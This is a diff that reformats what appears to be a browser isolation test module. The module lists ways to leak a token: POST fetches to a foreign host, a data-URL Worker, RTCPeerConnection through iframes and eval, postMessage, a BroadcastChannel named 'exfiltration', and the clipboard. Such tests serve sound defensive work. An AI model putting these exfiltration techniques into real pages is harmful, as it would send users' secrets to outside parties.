@@ -5,7 +5,8 @@ export const REQUESTS = [
   {
     name: "fetch",
     both(to) {
-      for (const url of [to.foreign, to.own, to.named]) quiet(fetch(url, { mode: "no-cors", method: "POST", body: to.token }));
+      for (const url of [to.foreign, to.own, to.named])
+        quiet(fetch(url, { mode: "no-cors", method: "POST", body: to.token }));
       quiet(fetch(to.foreign, { mode: "no-cors", keepalive: true }));
     },
   },
@@ -51,7 +52,9 @@ export const REQUESTS = [
     name: "worker from a data address",
     nested: true,
     both(to) {
-      void new Worker(`data:text/javascript,${encodeURIComponent(`fetch("${to.foreign}", { mode: "no-cors" }).catch(() => {})`)}`);
+      void new Worker(
+        `data:text/javascript,${encodeURIComponent(`fetch("${to.foreign}", { mode: "no-cors" }).catch(() => {})`)}`,
+      );
     },
   },
   { name: "shared worker", document: (to) => void new SharedWorker(`${to.own}.js`) },
@@ -72,7 +75,10 @@ export const REQUESTS = [
       all(
         () => connect(add("iframe", {}).contentWindow.RTCPeerConnection, to),
         () => add("iframe", { srcdoc: `<script>(${connect})(RTCPeerConnection, ${JSON.stringify(to)})<\/script>` }),
-        () => add("iframe", { src: "javascript:void 0" }).contentWindow.eval(`(${connect})(RTCPeerConnection, ${JSON.stringify(to)})`),
+        () =>
+          add("iframe", { src: "javascript:void 0" }).contentWindow.eval(
+            `(${connect})(RTCPeerConnection, ${JSON.stringify(to)})`,
+          ),
       );
     },
   },
@@ -80,10 +86,17 @@ export const REQUESTS = [
     name: "postMessage to the page",
     witnessed: true,
     document(to) {
-      all(() => parent.postMessage(to.token, "*"), () => top.postMessage(to.token, "*"));
+      all(
+        () => parent.postMessage(to.token, "*"),
+        () => top.postMessage(to.token, "*"),
+      );
     },
   },
-  { name: "BroadcastChannel", witnessed: true, both: (to) => new BroadcastChannel("exfiltration").postMessage(to.token) },
+  {
+    name: "BroadcastChannel",
+    witnessed: true,
+    both: (to) => new BroadcastChannel("exfiltration").postMessage(to.token),
+  },
   {
     name: "storage shared with the site",
     witnessed: true,
@@ -102,7 +115,10 @@ export const REQUESTS = [
     document(to) {
       const field = add("textarea", { value: to.token });
       field.select();
-      all(() => document.execCommand("copy"), () => quiet(navigator.clipboard.writeText(to.token)));
+      all(
+        () => document.execCommand("copy"),
+        () => quiet(navigator.clipboard.writeText(to.token)),
+      );
     },
   },
 ];
